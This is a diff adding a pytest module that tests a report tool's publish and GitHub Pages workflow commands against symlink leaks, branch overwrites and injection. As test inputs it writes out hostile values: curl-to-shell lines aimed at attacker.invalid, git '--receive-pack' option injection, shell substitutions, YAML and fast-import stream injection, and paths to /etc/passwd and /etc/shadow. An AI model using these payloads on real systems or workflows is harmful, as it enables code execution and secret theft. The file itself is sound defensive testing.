@@ -1,0 +1,262 @@
+"""Issue 12, publish half: publish pushes only the regular files a build wrote, never
+overwrites a branch that holds work, and init-pages writes a workflow no option value can
+inject into. Local git repositories and bare remotes only (file paths, no network)."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import re
+import shutil
+import subprocess
+
+import pytest
+import yaml
+from click.testing import CliRunner
+
+from conftest import ROOT
+from ikreport.cli import cli
+
+SITE = ROOT / "site"
+SHA_PIN = re.compile(r"^\s*(?:- )?uses: [\w./-]+@[0-9a-f]{40}  # v\d+\.\d+\.\d+$")
+
+
+def git(*args, cwd):
+    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout
+
+
+def run(*args):
+    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
+
+
+@pytest.fixture
+def repo(tmp_path, monkeypatch):
+    """A work repository on main with one commit and a copy of the golden site, and a bare remote."""
+    for var, value in (("GIT_AUTHOR_NAME", "t"), ("GIT_AUTHOR_EMAIL", "t@example.invalid"),
+                       ("GIT_COMMITTER_NAME", "t"), ("GIT_COMMITTER_EMAIL", "t@example.invalid")):
+        monkeypatch.setenv(var, value)
+    work = tmp_path / "work"
+    work.mkdir()
+    git("init", "-q", "-b", "main", cwd=work)
+    (work / "notes.txt").write_text("work that must not be lost\n")
+    git("add", "notes.txt", cwd=work)
+    git("commit", "-q", "-m", "Work", cwd=work)
+    shutil.copytree(SITE, work / "site")
+    bare = tmp_path / "pages.git"
+    git("init", "-q", "--bare", str(bare), cwd=tmp_path)
+    return work, bare
+
+
+def branches(where):
+    return git("for-each-ref", "--format=%(refname:short)", "refs/heads", cwd=where).split()
+
+
+def publish(work, bare, **options):
+    from ikreport.publish import publish as do
+
+    defaults = {"remote": str(bare), "branch": "gh-pages", "no_history": False, "message": None}
+    return do(work / "site", **{**defaults, **options})
+
+
+# -- the manifest names every file -------------------------------------------------------
+
+def test_manifest_lists_every_file_the_build_wrote():
+    manifest = json.loads((SITE / "manifest.json").read_text("utf-8"))
+    on_disk = sorted(str(p.relative_to(SITE)) for p in SITE.rglob("*") if p.is_file())
+    assert manifest["files"] == sorted(set(on_disk) - {"manifest.json"})
+
+
+# -- publish pushes only regular files the build wrote ------------------------------------
+
+def test_a_symlinked_file_in_the_site_is_refused_before_anything_is_committed(repo, tmp_path):
+    work, bare = repo
+    secret = tmp_path / "secret.key"
+    secret.write_text("PRIVATE KEY\n")
+    victim = work / "site" / "assets" / "site.js"
+    victim.unlink()
+    victim.symlink_to(secret)
+    result = run("publish", work / "site", "--remote", bare)
+    assert result.exit_code == 1
+    assert result.stderr == (f"Error: {victim}: a symbolic link; publish pushes only files the build wrote "
+                             "(delete it, or rebuild the site)\n")
+    assert branches(work) == ["main"] and branches(bare) == []
+
+
+@pytest.mark.parametrize("plant", ["linked folder", "extra file", "missing file", "fifo", "linked manifest",
+                                   "stream line in a name"])
+def test_a_site_that_is_not_what_the_build_wrote_is_refused(repo, tmp_path, plant):
+    from ikreport.errors import UnsafeSiteError
+
+    work, bare = repo
+    site = work / "site"
+    if plant == "linked folder":
+        outside = tmp_path / "outside"
+        outside.mkdir()
+        (outside / "id_rsa").write_text("key\n")
+        (site / "more").symlink_to(outside, target_is_directory=True)
+    elif plant == "extra file":
+        (site / "e" / "planted.html").write_text("<script>alert(1)</script>")
+    elif plant == "missing file":
+        (site / "404.html").unlink()
+    elif plant == "fifo":
+        os.mkfifo(site / "e" / "pipe")  # ghp-import would block opening it
+    elif plant == "stream line in a name":  # ghp-import writes names into a fast-import stream as they are
+        (site / "e" / "x\nM 100644 inline index.html").write_text("<script>alert(1)</script>")
+    else:
+        real = tmp_path / "manifest.json"
+        shutil.move(site / "manifest.json", real)
+        (site / "manifest.json").symlink_to(real)
+    with pytest.raises(UnsafeSiteError) as refused:
+        publish(work, bare)
+    assert "\n" not in str(refused.value)
+    assert branches(work) == ["main"] and branches(bare) == []
+
+
+@pytest.mark.parametrize("manifest", [
+    {"schema": "ikreport.manifest/1", "records": [], "blobs": []},  # an older build: no "files"
+    {"schema": "ikreport.manifest/1", "files": "index.html"},
+    {"schema": "ikreport.manifest/1", "files": ["../../etc/passwd"]},
+    {"schema": "ikreport.manifest/1", "files": ["/etc/shadow"]},
+    {"schema": "other", "files": []},
+    ["not", "an", "object"],
+])
+def test_a_manifest_not_shaped_as_the_build_writes_it_is_refused(repo, manifest):
+    from ikreport.errors import UnsafeSiteError
+
+    work, bare = repo
+    path = work / "site" / "manifest.json"
+    os.chmod(path, 0o644)
+    path.write_text(json.dumps(manifest))
+    with pytest.raises(UnsafeSiteError, match=re.escape(str(path))):
+        publish(work, bare)
+    assert branches(bare) == []
+
+
+def test_every_publish_commit_carries_the_site_trailer(repo):
+    work, bare = repo
+    result = run("publish", work / "site", "--remote", bare, "-m", "Site for v2")
+    assert result.exit_code == 0, result.output
+    message = git("log", "-1", "--format=%B", "gh-pages", cwd=bare)
+    digest = hashlib.sha256((SITE / "manifest.json").read_bytes()).hexdigest()
+    assert message.splitlines()[0] == "Site for v2"
+    assert git("log", "-1", "--format=%(trailers:key=Ikreport-Site,valueonly)", "gh-pages", cwd=bare).strip() == digest
+    again = run("publish", work / "site", "--remote", bare)  # its own earlier commits are no obstacle
+    assert again.exit_code == 0, again.output
+    assert git("rev-list", "--count", "gh-pages", cwd=bare).strip() == "2"
+
+
+# -- publish never overwrites a branch that holds work ---------------------------------------
+
+def test_the_checked_out_branch_is_refused(repo):
+    work, bare = repo
+    before = git("rev-parse", "main", cwd=work)
+    result = run("publish", work / "site", "--remote", bare, "--branch", "main", "--no-history", "--no-push")
+    assert result.exit_code == 1
+    assert result.stderr == (f"Error: {work}: main is a checked-out branch; publishing would replace its files "
+                             "under your work tree; choose another --branch (gh-pages), or pass --force\n")
+    assert git("rev-parse", "main", cwd=work) == before
+    assert (work / "notes.txt").exists()
+
+
+def test_a_local_branch_holding_work_is_refused_unless_forced(repo):
+    from ikreport.errors import BranchHoldsWorkError
+
+    work, bare = repo
+    git("branch", "docs", cwd=work)
+    work_commit = git("rev-parse", "docs", cwd=work).strip()
+    with pytest.raises(BranchHoldsWorkError, match=f"holds commit {work_commit[:12]}, which is not a site commit"):
+        publish(work, bare, branch="docs", no_history=True, push=False)
+    assert git("rev-parse", "docs", cwd=work).strip() == work_commit
+    publish(work, bare, branch="docs", no_history=True, push=False, force=True)
+    assert git("rev-list", "--count", "docs", cwd=work).strip() == "1"
+
+
+def test_a_remote_branch_holding_work_is_refused_unless_forced(repo, tmp_path):
+    from ikreport.errors import BranchHoldsWorkError
+
+    work, bare = repo
+    other = tmp_path / "other"
+    git("clone", "-q", str(bare), str(other), cwd=tmp_path)
+    (other / "README.md").write_text("the project's real gh-pages, written by hand\n")
+    git("add", "README.md", cwd=other)
+    git("commit", "-q", "-m", "Hand-written pages", cwd=other)
+    git("push", "-q", "origin", "HEAD:refs/heads/gh-pages", cwd=other)
+    remote_tip = git("rev-parse", "gh-pages", cwd=bare).strip()
+    result = run("publish", work / "site", "--remote", bare, "--no-history")
+    assert result.exit_code == 1
+    assert result.stderr.startswith(f"Error: {bare} gh-pages: holds commit {remote_tip[:12]}, which is not a site")
+    assert result.stderr.count("\n") == 1
+    assert git("rev-parse", "gh-pages", cwd=bare).strip() == remote_tip and branches(work) == ["main"]
+    # A remote-tracking branch that ghp-import would reset the local branch to counts too.
+    git("remote", "add", "origin", str(bare), cwd=work)
+    git("fetch", "-q", "origin", cwd=work)
+    with pytest.raises(BranchHoldsWorkError, match="origin/gh-pages: holds commit"):
+        publish(work, bare, remote="origin", push=False)
+    forced = run("publish", work / "site", "--remote", bare, "--no-history", "--force")
+    assert forced.exit_code == 0, forced.output
+    assert git("rev-list", "--count", "gh-pages", cwd=bare).strip() == "1"
+
+
+@pytest.mark.parametrize("option", [("--remote", "--receive-pack=touch pwned"), ("--branch", "-f"),
+                                    ("--branch", "a\ncommit refs/heads/main"), ("--branch", "a..b")])
+def test_remote_and_branch_never_reach_git_as_options_or_stream_lines(repo, option):
+    from ikreport.errors import PublishError
+
+    work, bare = repo
+    opts = {"remote": str(bare), "branch": "gh-pages", option[0][2:]: option[1]}
+    with pytest.raises(PublishError, match=f"^{option[0]} "):
+        publish(work, bare, **opts)
+    assert not (work / "pwned").exists() and branches(work) == ["main"]
+
+
+# -- init-pages: no option value reaches a shell line; least privilege; pinned actions -------
+
+def test_init_pages_values_reach_the_workflow_only_through_env(tmp_path):
+    install = 'ikreport"; curl https://attacker.invalid/x | sh; echo "'
+    archive = "evidence $(id) `id` #"
+    main = "main], pull_request_target: {branches: [x"
+    result = run("init-pages", "--repo", tmp_path, "--archive", archive, "--install", install, "--main", main)
+    assert result.exit_code == 0, result.output
+    text = (tmp_path / ".github" / "workflows" / "ikreport-pages.yml").read_text("utf-8")
+    workflow = yaml.safe_load(text)
+    assert workflow[True] == {"push": {"branches": [main]}, "workflow_dispatch": None}  # YAML 1.1 reads 'on' as True
+    steps = workflow["jobs"]["build"]["steps"]
+    runs = [s["run"] for s in steps if "run" in s]
+    assert runs == ['python -m pip install "$IKREPORT_INSTALL"', 'ikreport build "$IKREPORT_ARCHIVE" -o _site --strict']
+    env = {k: v for s in steps for k, v in s.get("env", {}).items()}
+    assert env == {"IKREPORT_INSTALL": install, "IKREPORT_ARCHIVE": archive}
+
+
+@pytest.mark.parametrize("option,value", [
+    ("--archive", "evidence\n      - run: curl https://attacker.invalid | sh"),
+    ("--install", "ikreport\r\n"),
+    ("--main", "main\u2028x"),
+    ("--install", "https://attacker.invalid/${{ secrets.GITHUB_TOKEN }}"),
+    ("--archive", ""),
+])
+def test_init_pages_refuses_values_no_quoting_makes_safe(tmp_path, option, value):
+    from ikreport.errors import WorkflowValueError
+    from ikreport.publish import init_pages
+
+    names = {"--archive": "archive", "--install": "install", "--main": "main"}
+    values = {"archive": "evidence", "install": "ikreport", "main": "main", names[option]: value}
+    with pytest.raises(WorkflowValueError):
+        init_pages(tmp_path, force=False, **values)
+    result = run("init-pages", "--repo", tmp_path, option, value)
+    assert result.exit_code == 1 and result.stderr.startswith(f"Error: {option} ") and result.stderr.count("\n") == 1
+    assert not (tmp_path / ".github").exists()
+
+
+def test_init_pages_grants_pages_rights_to_the_deploy_job_only_and_pins_actions(tmp_path):
+    assert run("init-pages", "--repo", tmp_path).exit_code == 0
+    text = (tmp_path / ".github" / "workflows" / "ikreport-pages.yml").read_text("utf-8")
+    workflow = yaml.safe_load(text)
+    assert workflow["permissions"] == {}
+    jobs = workflow["jobs"]
+    assert {name: job["permissions"] for name, job in jobs.items()} == {
+        "build": {"contents": "read"}, "deploy": {"pages": "write", "id-token": "write"}}
+    uses = [line for line in text.splitlines() if "uses:" in line]
+    assert len(uses) == 4 and all(SHA_PIN.match(line) for line in uses), uses
+    checkout = next(s for s in jobs["build"]["steps"] if s.get("uses", "").startswith("actions/checkout@"))
+    assert checkout["with"]["persist-credentials"] is False
